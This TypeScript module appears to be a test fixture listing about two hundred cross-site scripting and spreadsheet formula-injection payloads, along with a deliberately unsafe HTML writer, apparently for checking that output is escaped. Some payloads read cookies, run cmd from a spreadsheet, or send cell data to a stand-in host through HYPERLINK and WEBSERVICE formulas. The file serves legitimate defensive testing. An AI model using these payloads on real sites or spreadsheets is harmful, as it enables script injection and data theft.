/** A text that a careless page would run. */
export interface ScriptPayload {
  text: string;
  /** Markup, an attribute or an address: {@link writeCarelessly} makes something of it that is not text. */
  isLive: boolean;
}

const breakouts = ["", `">`, "'>", "</title></textarea>", "-->"];

const handlers = [
  "<img src=x onerror=xss=1>",
  "<svg onload=xss=1>",
  "<svg><animate onbegin=xss=1 attributeName=x dur=1s>",
  "<video><source onerror=xss=1>",
  "<audio src=x onerror=xss=1>",
  "<details open ontoggle=xss=1>",
  "<input autofocus onfocus=xss=1>",
  "<select autofocus onfocus=xss=1>",
  "<textarea autofocus onfocus=xss=1>",
  "<marquee onstart=xss=1>",
  "<iframe onload=xss=1>",
  "<object data=x onerror=xss=1>",
  "<embed src=x onerror=xss=1>",
  "<style onload=xss=1></style>",
  "<link rel=stylesheet href=x onerror=xss=1>",
  "<script src=x onerror=xss=1></script>",
  "<a tabindex=1 onmouseover=xss=1>x</a>",
  "<div onpointerenter=xss=1>x</div>",
  "<form onsubmit=xss=1><input type=submit>",
  "<button onclick=xss=1>x</button>",
  "<x-y onanimationstart=xss=1>",
  "<IMG SRC=x OnErRoR=alert(1)>",
];
const elements = [
  "<script>xss=1</script>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<script/x>xss=1</script>",
  "<script type=module>xss=1</script>",
  "<svg><script>xss=1</script></svg>",
  "<script src=data:text/javascript,xss=1></script>",
  `<iframe srcdoc="<script>parent.xss=1</script>"></iframe>`,
  `<meta http-equiv=refresh content="0;url=javascript:xss=1">`,
  "<base href=//evil.example/>",
  "<object data=javascript:xss=1></object>",
];
const addresses = [
  "javascript:xss=1",
  "JaVaScRiPt:xss=1",
  " javascript:xss=1",
  "javascript:alert(document.cookie)",
  "javascript://%0axss=1",
  "data:text/html,<script>xss=1</script>",
  "vbscript:xss=1",
  "javascript:void(xss=1)",
];
const attributes = [
  `" onmouseover="xss=1`,
  `" onfocus="xss=1" autofocus="`,
  `" onpointerover=xss=1 x="`,
  `"onclick=xss=1 x="`,
  `" style="x" onanimationend="xss=1`,
  `"/onmouseenter="xss=1`,
  `" tabindex=0 onfocusin="xss=1`,
  `" contenteditable onblur="xss=1`,
];
const encoded = [
  "&lt;img src=x onerror=xss=1&gt;",
  "&#60;script&#62;xss=1&#60;/script&#62;",
  "%3Cscript%3Exss=1%3C/script%3E",
  String.raw`\u003cscript\u003exss=1\u003c/script\u003e`,
  String.raw`\x3cimg src=x onerror=xss=1\x3e`,
  "\uff1cscript\uff1exss=1\uff1c/script\uff1e",
  "+ADw-script+AD4-xss=1+ADw-/script+AD4-",
  "\u202e>tpircs/<1=ssx>tpircs<",
];
// What other languages would fill in is text here.
/* oxlint-disable no-template-curly-in-string -- see above */
const templates = [
  "{{constructor.constructor('xss=1')()}}",
  "${xss=1}",
  "<%= xss=1 %>",
  "#{xss=1}",
  "[[${xss=1}]]",
  "{% import xss=1 %}",
];
/* oxlint-enable no-template-curly-in-string */

/** What a spreadsheet would run. */
export const formulas: readonly string[] = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  `=HYPERLINK("http://evil.example/?"&A1,"x")`,
  `=WEBSERVICE("http://evil.example")`,
  `=IMPORTXML("http://evil.example","//a")`,
  "=1+1",
  `="a"&"b"`,
  "@A1",
];

function mark(texts: readonly string[], isLive: boolean): ScriptPayload[] {
  return texts.map((text) => ({ text, isLive }));
}

/** BARS.md C7: two hundred, in families. Sources: OWASP's evasion cheat sheet; the HTML standard's event handlers. */
export const scriptPayloads: readonly ScriptPayload[] = [
  ...breakouts.flatMap((breakout) =>
    mark(
      [...handlers, ...elements].map((markup) => breakout + markup),
      true,
    ),
  ),
  ...mark([...addresses, ...attributes], true),
  ...mark([...encoded, ...templates, ...formulas], false),
];

/** What a page would write that takes a text for markup, for an attribute's value and for an address. */
export function writeCarelessly(text: string): string {
  return `<div title="${text}"><a href="${text}">x</a>${text}</div>`;
}

/** Joins texts to few that are at most so long; what is longer by itself is left out. */
export function joinTexts(texts: readonly string[], lengthMax: number): string[] {
  const joined: string[] = [];
  for (const text of texts.filter(({ length }) => length <= lengthMax)) {
    const last = joined.at(-1);
    if (last !== undefined && last.length + 1 + text.length <= lengthMax) joined[joined.length - 1] = `${last} ${text}`;
    else joined.push(text);
  }
  return joined;
}
